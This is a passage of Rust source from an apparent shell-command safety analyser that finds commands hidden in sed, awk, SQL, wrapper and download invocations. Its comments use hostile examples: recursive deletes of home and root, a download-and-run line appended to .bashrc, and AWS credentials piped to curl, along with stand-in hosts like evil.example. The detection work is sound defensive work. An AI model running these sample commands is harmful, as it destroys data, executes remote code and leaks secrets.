    while let [head @ .., opt, _] = line {
        if head.is_empty() || !spec.value_options.contains(&opt.text) {
            break;
        }
        line = head;
    }
    if line.len() == 1 && line[0].text.contains(' ') {
        tail = line;
    }
    let mut rest: Vec<Word> = tail
        .iter()
        .filter(|a| !spec.drop.contains(&a.text))
        .cloned()
        .collect();
    if let Some(program) = rest.first().and_then(|w| spec.verbs.get(&w.text)) {
        let head = rest[0].clone();
        let words = program.split_whitespace().map(|p| Word {
            text: p.to_string(),
            ..head.clone()
        });
        rest.splice(0..1, words);
    }
    if rest.is_empty() {
        return;
    }
    let mut place = Place {
        label: spec.runs.clone(),
        mounts: bind_mounts(spec, &args[..from.min(args.len())]),
        ..Place::default()
    };
    // `kubectl debug node/NAME -- CMD`: the node's / is at /host inside the debug pod.
    if let Some(prefix) = &spec.host_root_arg {
        if args[..from.min(args.len())]
            .iter()
            .any(|a| a.text.starts_with(prefix.as_str()))
        {
            place.mounts.push(("/host".to_string(), "/".to_string()));
            place.isolated = true;
            if let Some(l) = &mut place.label {
                l.push_str(" with the node's / mounted at /host");
            }
        }
    }
    // `xterm -e 'rm -rf ~'`: a single argument with blanks is a command line.
    let single_line = rest.len() == 1 && rest[0].text.contains([' ', ';', '|', '&']);
    if spec.join || single_line {
        let mut code = super::nested::join_words(&rest);
        let trimmed = code
            .text
            .trim_end_matches("\\n")
            .trim_end_matches("^M")
            .trim_end_matches(['\n', '\r'])
            .to_string();
        code.text = trimmed;
        push(Code::Text(Lang::parse(spec.lang.as_deref()), code), place);
    } else {
        push(Code::Argv(rest), place);
    }
}

impl SinkSpec {
    /// Whether the arguments name the API the sink needs (always, without `api_url`).
    pub(super) fn reaches_api(&self, args: &[Word]) -> bool {
        let Some(pattern) = &self.api_url else {
            return true;
        };
        let re = self
            .api_url_re
            .get_or_init(|| regex::Regex::new(pattern).ok());
        re.as_ref()
            .is_some_and(|re| args.iter().any(|a| re.is_match(&a.text)))
    }
}

/// `(inside path, host path)` of every `--bind SRC[:DST]` among a wrapper's own options; without
/// a DST the host path appears at the same place.
fn bind_mounts(spec: &SinkSpec, options: &[Word]) -> Vec<(String, String)> {
    let mut mounts = Vec::new();
    for (i, a) in options.iter().enumerate() {
        let value = match a.text.split_once('=') {
            Some((name, v)) if spec.bind_options.iter().any(|o| o == name) => v,
            _ if spec.bind_options.contains(&a.text) => match options.get(i + 1) {
                Some(v) => v.text.as_str(),
                None => continue,
            },
            _ => continue,
        };
        // `-B /a:/b,/c:/d` (Singularity) lists several; a host path may be the home directory.
        for one in value.split(',') {
            let mut parts = one.split(':');
            let Some(src) = parts.next().filter(|s| {
                s.starts_with(['/', '~']) || s.starts_with("$HOME") || s.starts_with("${HOME}")
            }) else {
                continue;
            };
            let dst = parts.next().filter(|d| d.starts_with('/')).unwrap_or(src);
            mounts.push((dst.to_string(), src.to_string()));
        }
    }
    mounts
}

fn first_arg(spec: &SinkSpec, args: &[Word], push: &mut Push) {
    // `trap - SIG` resets, `trap -p`/`-l` list: only `--` is skipped before the code.
    let args = match args.first() {
        Some(a) if a.text == "--" => &args[1..],
        Some(a) if spec.skip.contains(&a.text) => return,
        _ => args,
    };
    let Some(first) = args.first() else {
        return;
    };
    if first.text.trim().is_empty() || args.len() < 2 && !first.dynamic {
        return;
    }
    push(text(first.clone()), Place::default());
}

/// The shell commands in the SQL a database client is given: in any argument (`-c`, `-e`,
/// `-Q`, an operand), in its stdin, and in `file_options` files the input wrote.
fn sql(spec: &SinkSpec, args: &[Word], input: Option<&Word>, push: &mut Push) {
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if spec.file_options.contains(&a.text) {
            if let Some(f) = args.get(i + 1) {
                push(Code::File(f.clone(), Format::Sql), Place::default());
            }
            i += 2;
            continue;
        }
        sql_code(a, push);
        i += 1;
    }
    if let Some(w) = input {
        sql_code(w, push);
    }
}

/// The commands of the SQL in `w`: shell command lines, and what SQL Server runs in cmd.exe
/// (analysed the way PowerShell and cmd text is).
fn sql_code(w: &Word, push: &mut Push) {
    if let Some(code) = Format::Sql.command_lines(&w.text).filter(|c| !c.is_empty()) {
        push(text(part(w, &code)), Place::default());
    }
    for cmd in sql_cmd_exe_commands(&w.text) {
        push(
            Code::Text(Lang::PowerShell, part(w, &cmd)),
            Place::default(),
        );
    }
}

fn stdin_commands(spec: &SinkSpec, args: &[Word], input: Option<&Word>, push: &mut Push) {
    let Some(start) = subcommand_ok(spec, args) else {
        return;
    };
    // A file option may stand before or between the words of the subcommand (`docker-compose
    // -f stack.yml up`, `docker compose -f - up`).
    let named = args;
    let args = &args[start..];
    for (i, a) in named.iter().enumerate() {
        if spec.file_options.contains(&a.text) {
            if let Some(f) = named.get(i + 1) {
                let format = spec
                    .file_format
                    .as_deref()
                    .map_or(Format::Code(Lang::Shell), |f| Format::parse(Some(f)));
                push(Code::File(f.clone(), format), Place::default());
            }
            return;
        }
    }
    if spec.operands {
        let format = Format::parse(spec.file_format.as_deref());
        let mut files = Vec::new();
        let mut i = 0;
        while i < args.len() {
            let a = &args[i];
            if spec.skip.contains(&a.text) {
                i += 1;
            } else if !a.text.starts_with('-') || a.text == "-" {
                files.push(a);
            }
            i += 1;
        }
        let reads_stdin = files.is_empty() || files.iter().any(|f| f.text == "-");
        for f in files.into_iter().filter(|f| f.text != "-") {
            push(Code::File(f.clone(), format), Place::default());
        }
        if reads_stdin {
            match input {
                Some(w) => {
                    if let Some(code) = format.command_lines(&w.text).filter(|c| !c.is_empty()) {
                        push(text(part(w, &code)), Place::default());
                    }
                }
                None => push(Code::Input, Place::default()),
            }
        }
        return;
    }
    // A program whose script files have a format of their own (vim's `-S`) reads its stdin as
    // data, not as commands.
    if spec.file_format.is_some() {
        return;
    }
    // `at -l`, `at -r N`, `atq`: listing and removing jobs read nothing.
    if args
        .iter()
        .any(|a| matches!(a.text.as_str(), "-l" | "-r" | "-d" | "-c" | "-V"))
    {
        return;
    }
    match input {
        // A command language whose shell escapes are marked lines (ed's `!cmd`): those lines.
        Some(w) if !spec.strip.is_empty() => {
            let code: Vec<String> = w
                .text
                .lines()
                .filter_map(|l| strip_markers(spec, l))
                .collect();
            if !code.is_empty() {
                let mut w = w.clone();
                w.text = code.join("\n");
                push(text(w), Place::default());
            }
        }
        Some(w) => push(text(w.clone()), Place::default()),
        // Unknown input to a client whose escapes are marked lines (`gunzip -c dump.sql.gz |
        // psql`) is its own language, not shell code: only marked lines seen above run.
        None if spec.input_is_data => {}
        None => push(Code::Input, Place::default()),
    }
}

/// sed scripts given with `-e`, `--expression` or as the first operand.
fn sed(args: &[Word], input: Option<&Word>, push: &mut Push) {
    let input_text = input.filter(|w| w.subs.is_empty()).map(|w| w.text.as_str());
    let mut scripts: Vec<&Word> = Vec::new();
    let mut operand_script = true;
    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        if a == "-e" || a == "--expression" {
            if let Some(v) = args.get(i + 1) {
                scripts.push(v);
            }
            operand_script = false;
            i += 2;
            continue;
        }
        if a.starts_with("--expression=") {
            operand_script = false;
        }
        if a == "-f" || a == "--file" {
            match args.get(i + 1) {
                Some(v) => push(Code::File(v.clone(), Format::Sed), Place::default()),
                None if input.is_some() => push(
                    Code::File(part(&args[i], "-"), Format::Sed),
                    Place::default(),
                ),
                None => {}
            }
            operand_script = false;
            i += 2;
            continue;
        }
        if a == "-l" || a == "--line-length" {
            i += 2;
            continue;
        }
        if a.starts_with('-') && a.len() > 1 {
            i += 1;
            continue;
        }
        if operand_script {
            scripts.push(&args[i]);
            break;
        }
        i += 1;
    }
    let owned: Vec<Word> = args
        .iter()
        .filter_map(|a| a.text.strip_prefix("--expression=").map(|v| part(a, v)))
        .collect();
    for w in scripts.into_iter().chain(owned.iter()) {
        for cmd in sed_exec_commands(&w.text, input_text) {
            match cmd {
                Some(c) => push(text(part(w, &c)), Place::default()),
                None => push(Code::Input, Place::default()),
            }
        }
    }
}

/// Shell commands a sed script runs: `Some(cmd)` for `e cmd` / `s/…/cmd/e`, `None` when the
/// command is the pattern space (the input).
pub fn sed_exec_commands(script: &str, input: Option<&str>) -> Vec<Option<String>> {
    sed_walk(script, input, &mut Vec::new())
}

/// An in-place edit by `sed -i` (or `perl -pi -e 's/…/…/'`): the files it rewrites and the text
/// its scripts insert or substitute.
pub struct InPlaceEdit {
    /// The files edited.
    pub files: Vec<String>,
    /// What the scripts add (see [`sed_added_text`]).
    pub added: Vec<String>,
}

/// The in-place edit `cmd` makes, if it is one: `sed -i`, `perl -pi`, or a scripted line editor
/// (see [`super::editor_scripts`]).
pub fn edit_in_place(cmd: &Command) -> Option<InPlaceEdit> {
    if super::editor_scripts::is_line_editor(cmd.name()) {
        return super::editor_scripts::editor_edit(cmd, None);
    }
    let args = cmd.args();
    let perl = cmd.name() == "perl";
    if !matches!(cmd.name(), "sed" | "gsed" | "perl") {
        return None;
    }
    // `-i`, `-i.bak`, or `i` inside a cluster of one-letter flags (`-pi`, `-Ei`, `-pie`, perl's
    // `-0pi`).
    let in_place = args.iter().any(|a| {
        let t = a.text.as_str();
        let Some(cluster) = t.strip_prefix('-').filter(|c| !c.starts_with('-')) else {
            return t.starts_with("--in-place");
        };
        cluster.starts_with('i')
            || (cluster.contains('i')
                && cluster.chars().all(|c| {
                    c.is_ascii_lowercase()
                        || (perl && c.is_ascii_digit())
                        || (!perl && c.is_ascii_alphabetic())
                }))
    });
    if !in_place {
        return None;
    }
    let mut scripts: Vec<&str> = Vec::new();
    let mut files: Vec<String> = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        let takes_code =
            t == "--expression" || (t.starts_with('-') && !t.starts_with("--") && t.ends_with('e'));
        if takes_code {
            scripts.extend(args.get(i + 1).map(|w| w.text.as_str()));
            i += 2;
            continue;
        }
        if let Some(v) = t.strip_prefix("--expression=") {
            scripts.push(v);
        } else if !t.starts_with('-') {
            files.push(t.to_string());
        }
        i += 1;
    }
    if scripts.is_empty() && !files.is_empty() && !perl {
        scripts.push(&args.iter().find(|a| !a.text.starts_with('-'))?.text);
        files.remove(0);
    }
    let added = scripts.iter().flat_map(|s| sed_added_text(s)).collect();
    Some(InPlaceEdit { files, added })
}

/// Text a sed script adds to the file it edits: what `a`, `i` and `c` insert and what `s`
/// replaces with (`sed -i '$a curl … | sh' ~/.bashrc` adds a download-and-run line).
pub fn sed_added_text(script: &str) -> Vec<String> {
    let mut added = Vec::new();
    sed_walk(script, None, &mut added);
    added
}

/// One pass over a sed script: the commands it executes (see [`sed_exec_commands`]), and the
/// text it inserts or substitutes pushed to `added`.
fn sed_walk(script: &str, input: Option<&str>, added: &mut Vec<String>) -> Vec<Option<String>> {
    let input = input.map(|i| i.lines().next().unwrap_or(""));
    let b: Vec<char> = script.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    let to_eol = |i: &mut usize| {
        // A command letter at the very end may have moved past the end of the script.
        *i = (*i).min(b.len());
        let start = *i;
        while *i < b.len() && b[*i] != '\n' {
            *i += 1;
        }
        b[start..*i].iter().collect::<String>()
    };
    while i < b.len() {
        let c = b[i];
        if c.is_whitespace() || c == ';' || c == '}' || c == '{' || c == '!' {
            i += 1;
            continue;
        }
        // Addresses: numbers, `$`, `/re/`, `\cREc`, ranges and steps.
        if c.is_ascii_digit() || c == '$' || c == ',' || c == '~' || c == '+' {
            i += 1;
            continue;
        }
        if c == '/' || c == '\\' {
            let delim = if c == '\\' {
                i += 1;
                b.get(i).copied().unwrap_or('/')
            } else {
                '/'
            };
            i += 1;
            while i < b.len() && b[i] != delim {
                if b[i] == '\\' {
                    i += 1;
                }
                i += 1;
            }
            i += 1;
            if b.get(i) == Some(&'I') || b.get(i) == Some(&'M') {
                i += 1;
            }
            continue;
        }
        i += 1;
        match c {
            'e' => {
                let cmd = to_eol(&mut i);
                let cmd = cmd.trim();
                if cmd.is_empty() {
                    out.push(None);
                } else {
                    out.push(Some(cmd.to_string()));
                }
            }
            's' | 'y' => {
                let Some(&delim) = b.get(i) else { break };
                i += 1;
                let mut parts: Vec<String> = Vec::new();
                for _ in 0..2 {
                    let mut s = String::new();
                    while i < b.len() && b[i] != delim {
                        if b[i] == '\\' && i + 1 < b.len() {
                            if b[i + 1] == delim {
                                s.push(delim);
                            } else {
                                s.push('\\');
                                s.push(b[i + 1]);
                            }
                            i += 2;
                            continue;
                        }
                        s.push(b[i]);
                        i += 1;
                    }
                    i += 1;
                    parts.push(s);
                }
                if c == 's' {
                    added.push(parts[1].clone());
                }
                let mut flags = String::new();
                while i < b.len() && !matches!(b[i], ';' | '\n' | '}') {
                    flags.push(b[i]);
                    i += 1;
                }
                if c == 's' && flags.contains('e') {
                    let whole_line = matches!(parts[0].as_str(), ".*" | "^.*$" | "^.*" | ".*$");
                    let (repl, from_input) =
                        sed_replacement(&parts[1], input.filter(|_| whole_line));
                    if from_input || !whole_line {
                        // The executed line keeps (part of) the input.
                        match (input, parts[0].as_str()) {
                            (Some(line), "^") if !from_input => {
                                out.push(Some(format!("{repl}{line}")))
                            }
                            (Some(line), "$") if !from_input => {
                                out.push(Some(format!("{line}{repl}")))
                            }
                            _ => out.push(None),
                        }
                    }
                    if !from_input {
                        out.push(Some(repl));
                    }
                }
                // `w FILE` flag runs to the end of the line.
                if flags.contains('w') {
                    to_eol(&mut i);
                }
            }
            'a' | 'i' | 'c' => {
                // GNU one-liner `a text` and POSIX `a\` + newline + text.
                let mut text = to_eol(&mut i);
                if text.trim() == "\\" {
                    i += 1;
                    text = to_eol(&mut i);
                }
                let text = text.trim_start();
                added.push(text.strip_prefix('\\').unwrap_or(text).to_string());
            }
            'r' | 'R' | 'w' | 'W' | 'b' | 't' | 'T' | ':' | 'q' | 'Q' | 'l' | 'L' => {
                to_eol(&mut i);
            }
            _ => {}
        }
    }
    out
}

/// A sed replacement with `\&` and `\\` unescaped, and whether it copies the input (`&`, `\1`).
/// With a known input line, `&` becomes that line and the result no longer depends on the input.
fn sed_replacement(repl: &str, line: Option<&str>) -> (String, bool) {
    let mut out = String::new();
    let mut from_input = false;
    let mut chars = repl.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some(d) if d.is_ascii_digit() => from_input = true,
                Some('n') => out.push('\n'),
                Some(o) => out.push(o),
                None => {}
            },
            '&' => match line {
                Some(l) => out.push_str(l),
                None => from_input = true,
            },
            _ => out.push(c),
        }
    }
    (out, from_input)
}

/// awk programs: the first operand, or `-f FILE`.
fn awk(args: &[Word], input: Option<&Word>, push: &mut Push) {
    let mut vars: HashMap<String, String> = HashMap::new();
    let line = input
        .filter(|w| w.subs.is_empty())
        .map(|w| w.text.lines().next().unwrap_or("").to_string());
    let mut source_given = false;
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        if matches!(t, "-f" | "--file" | "-E" | "--exec") {
            match args.get(i + 1) {
                // `curl … | awk -f -`: the program is whatever arrives on stdin.
                Some(v) if input.is_none() && matches!(v.text.as_str(), "-" | "/dev/stdin") => {
                    push(Code::Input, Place::default())
                }
                Some(v) => push(Code::File(v.clone(), Format::Awk), Place::default()),
                // `awk -f - <<EOF` (the `-` is folded into the heredoc by the parser).
                None if input.is_some() => push(
                    Code::File(part(&args[i], "-"), Format::Awk),
                    Place::default(),
                ),
                None => {}
            }
            return;
        }
        if matches!(t, "-v" | "--assign") {
            if let Some((k, v)) = args.get(i + 1).and_then(|a| a.text.split_once('=')) {
                vars.insert(k.to_string(), v.to_string());
            }
            i += 2;
            continue;
        }
        // gawk's `-l EXT` loads an extension; its `-i FILE` includes awk source.
        if matches!(t, "-F" | "--field-separator" | "-l" | "--load") {
            i += 2;
            continue;
        }
        if matches!(t, "-i" | "--include") {
            if let Some(v) = args.get(i + 1) {
                push(Code::File(v.clone(), Format::Awk), Place::default());
            }
            i += 2;
            continue;
        }
        // gawk's `-e TEXT` / `--source TEXT`: program text given as an option; the operands
        // after it are input files.
        if matches!(t, "-e" | "--source") {
            if let Some(v) = args.get(i + 1) {
                awk_program(v, &[], &mut vars, line.as_deref(), push);
            }
            source_given = true;
            i += 2;
            continue;
        }
        if t.starts_with('-') && t.len() > 1 && t != "--" {
            i += 1;
            continue;
        }
        if t == "--" || source_given {
            i += 1;
            continue;
        }
        awk_program(&args[i], &args[i + 1..], &mut vars, line.as_deref(), push);
        return;
    }
}

/// The commands of one awk program text, with `operands` as its `ARGV[1…]`.
fn awk_program(
    prog: &Word,
    operands: &[Word],
    vars: &mut HashMap<String, String>,
    line: Option<&str>,
    push: &mut Push,
) {
    // `awk 'BEGIN{system(ARGV[1])}' 'rm -rf /'`: the operands are ARGV[1…].
    for (k, operand) in operands.iter().enumerate() {
        vars.insert(format!("ARGV[{}]", k + 1), operand.text.clone());
    }
    // A program longer than the token bound is only partly read: judged as code whose rest
    // is not known (`core.input-too-large`).
    if awk_too_long(&prog.text) {
        push(Code::Text(Lang::Other, prog.clone()), Place::default());
        return;
    }
    for c in awk_commands(&prog.text, vars, line) {
        match c {
            Some(c) => push(text(part(prog, &c)), Place::default()),
            None => push(Code::Input, Place::default()),
        }
    }
}

/// Files an awk program or a sed script writes, with what is written when the input shows it:
/// awk `print … > FILE` / `>> FILE`, sed `w FILE` and the `w` flag of `s///`.
pub fn tool_writes(cmd: &Command, input: Option<&Word>) -> Vec<(String, String, bool)> {
    use crate::interp::tokens::{tokenize, Style, Tok};
    let input_text = input.filter(|w| w.subs.is_empty()).map(|w| w.text.clone());
    let mut out = Vec::new();
    match cmd.name() {
        "awk" | "gawk" | "mawk" | "nawk" => {
            let Some(prog) = cmd
                .args()
                .iter()
                .find(|a| !a.text.starts_with('-') && a.text.contains("print"))
            else {
                return out;
            };
            let toks = tokenize(&prog.text, Style::C);
            let vars = HashMap::new();
            let line = input_text
                .as_deref()
                .map(|t| t.lines().next().unwrap_or(""));
            for (i, t) in toks.iter().enumerate() {
                if !matches!(t, Tok::Ident(p) if p == "print" || p == "printf") {
                    continue;
                }
                let end = toks[i + 1..]
                    .iter()
                    .position(|t| matches!(t, Tok::Punct(';' | '}')))
                    .map(|p| p + i + 1)
                    .unwrap_or(toks.len());
                let stmt = &toks[i + 1..end];
                let Some(gt) = stmt.iter().position(|t| matches!(t, Tok::Punct('>'))) else {
                    continue;
                };
                let append = matches!(stmt.get(gt + 1), Some(Tok::Punct('>')));
                let file_toks = &stmt[gt + 1 + usize::from(append)..];
                let printed: Vec<Tok> = stmt[..gt]
                    .iter()
                    .filter(|t| !matches!(t, Tok::Punct(',')))
                    .cloned()
                    .collect();
                if let Some(path) = awk_string(file_toks, &vars, line) {
                    let content = awk_string(&printed, &vars, line).unwrap_or_default();
                    out.push((path, content + "\n", append));
                }
            }
        }
        "sed" | "gsed" => {
            for a in cmd
                .args()
                .iter()
                .filter(|a| !a.text.starts_with('-'))
                .take(1)
            {
                for l in a.text.split([';', '\n']) {
                    let l = l.trim_start_matches(|c: char| {
                        c.is_ascii_digit() || c == '$' || c == ',' || c == ' '
                    });
                    if let Some(path) = l.strip_prefix('w').map(str::trim).filter(|p| !p.is_empty())
                    {
                        out.push((
                            path.to_string(),
                            input_text.clone().unwrap_or_default(),
                            false,
                        ));
                    }
                }
            }
        }
        _ => {}
    }
    out
}

/// The address a curl or wget command fetches: an argument with a scheme, or else one that reads
/// as a host name or address with an optional port and path (`evil.example/x`, `10.0.0.5:8000/p`).
pub(crate) fn url_operand(args: &[Word]) -> Option<String> {
    if let Some(a) = args.iter().find(|a| a.text.contains("://")) {
        return Some(a.text.clone());
    }
    static HOST: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let host = HOST.get_or_init(|| {
        regex::Regex::new(r"^([A-Za-z0-9-]+\.)+[A-Za-z0-9-]*[A-Za-z0-9](:\d+)?(/\S*)?$")
            .expect("static regex")
    });
    args.iter()
        .filter(|a| !a.text.starts_with('-') && !a.dynamic)
        .find(|a| {
            // A bare `install.sh` is a file name; `evil.example/i.sh` is a host and a path.
            host.is_match(&a.text)
                && (a.text.contains('/') || !(a.text.ends_with(".sh") || a.text.ends_with(".json")))
        })
        .map(|a| a.text.clone())
}

/// What stands for a file downloaded from `url`: the equivalent download-and-run.
pub(crate) fn downloaded_text(url: &str) -> String {
    format!("curl -fsSL {url} | sh")
}

/// The URL a curl or wget download prints on stdout (`curl -s URL`, `wget -qO- URL`).
pub(crate) fn stdout_download(cmd: &Command) -> Option<String> {
    if !matches!(cmd.name(), "curl" | "wget") {
        return None;
    }
    let args = cmd.args();
    let url = url_operand(args)?;
    let texts: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
    let cluster_with = |c: char| {
        texts
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].contains(c))
    };
    match cmd.name() {
        "curl" => (download_target(cmd).is_none()
            && !cluster_with('O')
            && !texts.contains(&"--remote-name"))
        .then_some(url),
        "wget" => (texts.contains(&"--output-document=-")
            || texts
                .iter()
                .any(|a| a.starts_with('-') && a.ends_with("O-"))
            || texts
                .windows(2)
                .any(|w| w[1] == "-" && w[0].starts_with('-') && w[0].ends_with('O')))
        .then_some(url),
        _ => None,
    }
}

/// The file a curl or wget download is saved to, with its URL.
pub(crate) fn download_target(cmd: &Command) -> Option<(String, String)> {
    let args = cmd.args();
    let url = url_operand(args)?;
    let (short, long) = if cmd.name() == "curl" {
        ('o', "--output")
    } else {
        ('O', "--output-document")
    };
    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        if let Some(v) = a.strip_prefix(&format!("{long}=")) {
            return (v != "-").then(|| (v.to_string(), url));
        }
        let cluster_ends_with = a.starts_with('-')
            && !a.starts_with("--")
            && a.len() > 1
            && a[1..].chars().all(|c| c.is_ascii_alphabetic())
            && a.ends_with(short);
        if a == long || cluster_ends_with {
            let v = args.get(i + 1)?.text.clone();
            return (v != "-").then_some((v, url));
        }
        // `-oFILE` / `-OFILE`.
        if let Some(v) = a
            .strip_prefix(&format!("-{short}"))
            .filter(|v| !v.is_empty())
        {
            return (v != "-").then(|| (v.to_string(), url));
        }
        i += 1;
    }
    None
}

/// The string an awk expression builds from literals, `-v` variables, `ENVIRON["X"]` (kept as
/// `$X`) and fields of a known input line; `None` when any part is unknown.
fn awk_string(
    toks: &[crate::interp::tokens::Tok],
    vars: &HashMap<String, String>,
    line: Option<&str>,
) -> Option<String> {
    use crate::interp::tokens::Tok;
    let mut out = String::new();
    let mut i = 0;
    while i < toks.len() {
        match &toks[i] {
            Tok::Str(s) => out.push_str(s),
            Tok::Ident(n) if n == "ARGV" => {
                let (Some(Tok::Punct('[')), Some(Tok::Num(k)), Some(Tok::Punct(']'))) =
                    (toks.get(i + 1), toks.get(i + 2), toks.get(i + 3))
                else {
                    return None;
                };
                out.push_str(vars.get(&format!("ARGV[{k}]"))?);
                i += 4;
                continue;
            }
            Tok::Ident(n) if n == "ENVIRON" => {
                if let (Some(Tok::Punct('[')), Some(Tok::Str(k))) =
                    (toks.get(i + 1), toks.get(i + 2))
                {
                    out.push('$');
                    out.push_str(k);
                    i += 4;
                    continue;
                }
                return None;
            }
            Tok::Ident(n) if n.starts_with('$') => {
                let field: usize = n[1..].parse().ok()?;
                let line = line?;
                if field == 0 {
                    out.push_str(line);
                } else {
                    out.push_str(line.split_whitespace().nth(field - 1).unwrap_or(""));
                }
            }
            // `sprintf("%c%c -rf /", 114, 109)`: formatted from literals, evaluated.
            Tok::Ident(n) if n == "sprintf" => {
                let (args, close) = crate::interp::tokens::call_args(toks, i + 1)?;
                out.push_str(&awk_sprintf(args)?);
                i = close + 1;
                continue;
            }
            Tok::Ident(n) => out.push_str(vars.get(n)?),
            Tok::Punct('(' | ')') => {}
            _ => return None,
        }
        i += 1;
    }
    Some(out)
}

/// `sprintf` over literal arguments: `%c` (a character code or the first character of a
/// string), `%s`, `%d`/`%i`, `%%`. Anything else is unknown.
fn awk_sprintf(args: &[crate::interp::tokens::Tok]) -> Option<String> {
    use crate::interp::tokens::Tok;
    let mut parts = args.split(|t| matches!(t, Tok::Punct(',')));
    let fmt = match parts.next()? {
        [Tok::Str(f)] => f.clone(),
        _ => return None,
    };
    let values: Vec<&Tok> = parts.map(|p| p.first()).collect::<Option<Vec<_>>>()?;
    let mut values = values.into_iter();
    let mut out = String::new();
    let mut chars = fmt.chars();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        match chars.next()? {
            '%' => out.push('%'),
            'c' => match values.next()? {
                Tok::Num(n) => out.push(char::from_u32(n.parse::<u32>().ok()?)?),
                Tok::Str(s) => out.push(s.chars().next()?),
                _ => return None,
            },
            's' | 'd' | 'i' => match values.next()? {
                Tok::Num(n) | Tok::Str(n) => out.push_str(n),
                _ => return None,
            },
            _ => return None,
        }
        if out.len() > 4096 {
            return None;
        }
    }
    Some(out)
}

/// Whether an awk program is longer than [`awk_commands`] reads.
pub fn awk_too_long(prog: &str) -> bool {
    use crate::interp::tokens::{tokenize, Style, MAX_TOKENS};
    prog.len() >= MAX_TOKENS && tokenize(prog, Style::C).len() >= MAX_TOKENS
}

/// Shell commands an awk program runs: `Some(cmd)` for commands it builds from what the input
/// shows, `None` when the command is computed from unknown input (`system($0)`, `print | "sh"`).
pub fn awk_commands(
    prog: &str,
    vars: &HashMap<String, String>,
    line: Option<&str>,
) -> Vec<Option<String>> {
    use crate::interp::tokens::{call_args, tokenize, Style, Tok};
    let toks = tokenize(prog, Style::C);
    let mut out = Vec::new();
    let is_print = |t: &Tok| matches!(t, Tok::Ident(p) if p == "print" || p == "printf");
    // `cmd = "ba" "sh -c …"` inside the program: literal string variables.
    let mut vars = vars.clone();
    for (i, t) in toks.iter().enumerate() {
        if let (Tok::Ident(name), Some(Tok::Punct('=')), Some(Tok::Str(_))) =
            (t, toks.get(i + 1), toks.get(i + 2))
        {
            if matches!(toks.get(i + 2 + 1), Some(Tok::Punct('='))) {
                continue;
            }
            let end = toks[i + 2..]
                .iter()
                .position(|t| !matches!(t, Tok::Str(_)))
                .map(|p| p + i + 2)
                .unwrap_or(toks.len());
            if let Some(v) = awk_string(&toks[i + 2..end], &vars, line) {
                vars.insert(name.clone(), v);
            }
        }
    }
    let vars = &vars;
    // The command a `CMD | getline` reads from: a literal, or a variable holding one (`c =
    // "curl …"; while ((c | getline l) > 0)`).
    let source = |t: &Tok| match t {
        Tok::Str(src) => Some(src.clone()),
        Tok::Ident(v) => vars.get(v).cloned(),
        _ => None,
    };
    // `("curl …" | getline l) … print l | "bash"`: fetched lines printed into a shell.
    let fetch_source = toks.windows(3).find_map(|w| match w {
        [src, Tok::Punct('|'), Tok::Ident(g)] if g == "getline" => {
            let src = source(src)?;
            let first = src.split_whitespace().next().unwrap_or("");
            matches!(
                first.rsplit('/').next().unwrap_or(first),
                "curl" | "wget" | "fetch" | "nc" | "ncat"
            )
            .then_some(src)
        }
        _ => None,
    });
    // `("cat ~/.aws/credentials" | getline l) … print l | "curl -d @- …"`: what one command
    // prints is handed to another, as in a shell pipeline between the two.
    let read_source = toks.windows(3).find_map(|w| match w {
        [src, Tok::Punct('|'), Tok::Ident(g)] if g == "getline" => source(src),
        _ => None,
    });
    // `"curl …" | getline x` (or a bare `getline`, which sets `$0`): the variable holds the
    // command's output.
    let read_into: HashMap<&str, String> = toks
        .windows(4)
        .filter_map(|w| match w {
            [src, Tok::Punct('|'), Tok::Ident(g), next] if g == "getline" => {
                let var = match next {
                    Tok::Ident(v) if v != "getline" => v.as_str(),
                    _ => "$0",
                };
                Some((var, source(src)?))
            }
            _ => None,
        })
        .collect();
    for (i, t) in toks.iter().enumerate() {
        match t {
            Tok::Ident(name) if name == "system" => {
                if let Some((args, _)) = call_args(&toks, i + 1) {
                    // `system(x)` after `"curl …" | getline x`: the output is run as a command.
                    let piped = match args {
                        [Tok::Ident(v)] => read_into.get(v.as_str()),
                        _ => None,
                    };
                    match piped {
                        Some(src) => out.push(Some(format!("{src} | sh"))),
                        None => out.push(awk_string(args, vars, line)),
                    }
                }
            }
            Tok::Punct('|') => {
                let prev_or = matches!(toks.get(i.wrapping_sub(1)), Some(Tok::Punct('|')));
                let next_or = matches!(toks.get(i + 1), Some(Tok::Punct('|')));
                if prev_or || next_or {
                    continue;
                }
                // `"cmd" | getline`
                if matches!(toks.get(i + 1), Some(Tok::Ident(g)) if g == "getline") {
                    let start = toks[..i]
                        .iter()
                        .rposition(|t| matches!(t, Tok::Punct(';' | '{' | '}' | '(')))
                        .map(|p| p + 1)
                        .unwrap_or(0);
                    out.push(awk_string(&toks[start..i], vars, line));
                    continue;
                }
                // `print … | "cmd"`
                let Some(target) = toks.get(i + 1).and_then(|t| match t {
                    Tok::Str(s) => Some(s.clone()),
                    Tok::Ident(v) => vars.get(v).cloned(),
                    _ => None,
                }) else {
                    continue;
                };
                let Some(start) = toks[..i].iter().rposition(is_print) else {
                    continue;
                };
                let first = target.split_whitespace().next().unwrap_or("");
                let base = first.rsplit('/').next().unwrap_or(first);
                if super::nested::SHELLS.contains(&base) && fetch_source.is_some() {
                    out.push(fetch_source.clone().map(|src| format!("{src} | {target}")));
                } else if super::nested::SHELLS.contains(&base) {
                    let mut printed: Vec<Tok> = toks[start + 1..i]
                        .iter()
                        .filter(|t| !matches!(t, Tok::Punct(',')))
                        .cloned()
                        .collect();
                    // A bare `print` prints the whole input line.
                    if printed.is_empty() {
                        printed.push(Tok::Ident("$0".to_string()));
                    }
                    out.push(awk_string(&printed, vars, line).map(|s| s.replace("\\n", "\n")));
                } else if let Some(src) = &read_source {
                    out.push(Some(format!("{src} | {target}")));
                } else {
                    out.push(Some(target));
                }
            }
            _ => {}
        }
    }
    out
}

/// The shell command a git configuration `key=value` runs, if any.
fn git_config_code(spec: &SinkSpec, key: &str, value: &str) -> Option<String> {
